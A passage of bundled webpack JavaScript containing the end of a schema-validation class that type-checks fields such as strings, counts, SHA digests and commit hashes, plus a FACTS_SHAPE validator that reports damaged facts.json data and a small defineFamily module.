    object(value, path) {
        return typeof value === 'object' && value !== null && !Array.isArray(value) ? value : this.invalid(path);
    }
    list(value, path) {
        return Array.isArray(value) ? value : this.invalid(path);
    }
    text(value, path) {
        return typeof value === 'string' ? value : this.invalid(path);
    }
    texts(value, path) {
        return this.list(value, path).map((one) => this.text(one, path));
    }
    flag(value, path) {
        return typeof value === 'boolean' ? value : this.invalid(path);
    }
    count(value, path) {
        return Number.isSafeInteger(value) && value >= 0 ? value : this.invalid(path);
    }
    number(value, path) {
        return typeof value === 'number' && Number.isFinite(value) && value >= 0 ? value : this.invalid(path);
    }
    word(value, words, path) {
        return words.find((word) => word === value) ?? this.invalid(path);
    }
    digest(value, path) {
        const text = this.text(value, path);
        return /^[0-9a-f]{64}$/u.test(text) ? text : this.invalid(path);
    }
    problem(value, path) {
        const own = this.object(value, path);
        for (const key of ['code', 'reason', 'hint'])
            this.text(own[key], `${path}.${key}`);
        if (own['location'] === undefined)
            return;
        const place = this.object(own['location'], `${path}.location`);
        this.text(place['path'], `${path}.location.path`);
        for (const key of ['line', 'column'])
            if (place[key] !== undefined)
                this.count(place[key], `${path}.location.${key}`);
    }
    commit(value, path) {
        const text = this.text(value, path);
        return /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/u.test(text) ? text : this.invalid(path);
    }
}
const FACTS_SHAPE = new Shape((path) => new _model_problem_js__WEBPACK_IMPORTED_MODULE_0__/* .ProblemError */ .M({
    code: 'FACTS-INVALID',
    reason: `the facts are damaged: ${path} is not what it should be`,
    hint: 'Download facts.json of the run again; it must be used as it was written.',
}));


/***/ }),

/***/ 86964:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   u: () => (/* binding */ defineFamily)
/* harmony export */ });
function defineFamily(family) {
    return family;
}


/***/ })

};
